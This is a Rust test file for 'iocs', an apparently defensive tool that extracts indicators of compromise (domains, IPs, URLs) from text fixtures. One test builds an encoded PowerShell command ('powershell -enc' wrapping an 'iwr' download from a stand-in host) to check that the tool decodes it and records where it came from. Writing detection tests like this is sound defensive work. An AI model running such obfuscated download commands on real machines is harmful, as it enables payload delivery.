//! The texts that `iocs` is tested on, through the real binary.

use std::collections::BTreeSet;
use std::fs;
use std::path::{Path, PathBuf};

use base64::Engine;
use base64::prelude::BASE64_STANDARD;

use crate::env::{Env, Run};

/// Hosts of URLs that are not sent, which are asked instead: by text, where there are any.
const HOSTS: [(&str, &str, &str); 3] = [
    ("advisory.md", "domain", "files.example.com"),
    ("defanged.txt", "domain", "ftp.example.com"),
    ("events.json", "ip", "38.9.8.78"),
];

/// The names that the list of a text has beside what is marked in it.
fn hosts(path: &Path) -> impl Iterator<Item = (String, String)> {
    let own = HOSTS.into_iter().filter(move |(text, ..)| path.ends_with(text));
    own.map(|(_, kind, host)| (kind.to_owned(), host.to_owned()))
}

/// The texts, each with its hand-marked `.expected` beside it.
fn fixtures() -> Vec<PathBuf> {
    let folder = Path::new(env!("CARGO_MANIFEST_DIR")).join("crates/iocs/tests/fixtures/extract");
    let mut paths: Vec<PathBuf> =
        fs::read_dir(folder).unwrap().map(|entry| entry.unwrap().path()).collect();
    paths.retain(|path| path.extension().is_none_or(|extension| extension != "expected"));
    // Documents are not read as text: see `documents`.
    paths.retain(|path| {
        iocs::document::type_of(&fs::read(path).unwrap(), &path.display().to_string()).is_none()
    });
    paths.sort();
    paths
}

/// `line<TAB>kind<TAB>canonical`, and what else is to be known of it.
fn marks(path: &Path) -> Vec<String> {
    let expected = format!("{}.expected", path.display());
    fs::read_to_string(&expected).expect(&expected).lines().map(str::to_owned).collect()
}

fn without_password(url: &str) -> String {
    let (user, rest) = url.split_once('@').unwrap();
    let (user, _) = user.rsplit_once(':').unwrap();
    format!("{user}:***@{rest}")
}

#[test]
fn the_binary_finds_what_was_marked() {
    let env = Env::new();
    for path in fixtures() {
        let run =
            Run::of(env.bare().args(["--dry-run", "--store", "none", "-f", "jsonl"]).arg(&path));
        let found: BTreeSet<(String, String)> = run
            .records()
            .iter()
            .map(|record| {
                let text = |key: &str| record[key].as_str().unwrap_or_default().to_owned();
                (text("kind"), text("indicator"))
            })
            .collect();
        let marked: BTreeSet<(String, String)> = marks(&path)
            .iter()
            .map(|mark| {
                let columns: Vec<&str> = mark.split('\t').collect();
                // The marks are the library's; the program shows no password.
                let is_password = columns.get(3) == Some(&"password");
                let shown =
                    if is_password { without_password(columns[2]) } else { columns[2].to_owned() };
                (columns[1].to_owned(), shown)
            })
            .chain(hosts(&path))
            .collect();
        assert_eq!(found, marked, "{}", path.display());
    }
}

/// Windows files say the same things.
#[test]
fn the_binary_finds_the_same_with_windows_line_ends() {
    let env = Env::new();
    for path in fixtures() {
        let text = fs::read_to_string(&path).unwrap().replace('\n', "\r\n");
        let run = env.scan(&text, ["--dry-run", "--store", "none", "-f", "jsonl"]);
        let records = run.records();
        let unique: BTreeSet<String> = marks(&path)
            .iter()
            .map(|mark| mark.split('\t').skip(1).take(2).collect::<Vec<_>>().join(" "))
            .collect();
        assert_eq!(records.len(), unique.len() + hosts(&path).count(), "{}", path.display());
    }
}

#[test]
fn the_origin_of_what_a_script_holds_encoded_says_so() {
    let env = Env::new();
    let script = "iwr http://a.example.com/b".encode_utf16().flat_map(u16::to_le_bytes);
    let script = BASE64_STANDARD.encode(script.collect::<Vec<u8>>());
    let text = format!("started at 10:00\ncmd /c powershell -enc {script} from 8.8.8.8 there\n");
    env.write("log", &text);
    let mut command = env.bare();
    command.args(["--dry-run", "--store", "none", "-f", "jsonl", "log"]);
    let run = Run::of(&mut command);
    let records = run.records();
    let found: Vec<[&str; 2]> = records
        .iter()
        .map(|record| ["indicator", "origin"].map(|key| record[key].as_str().unwrap()))
        .collect();
    assert_eq!(found, [["http://a.example.com/b", "log:2!base64"], ["8.8.8.8", "log:2"]]);
}
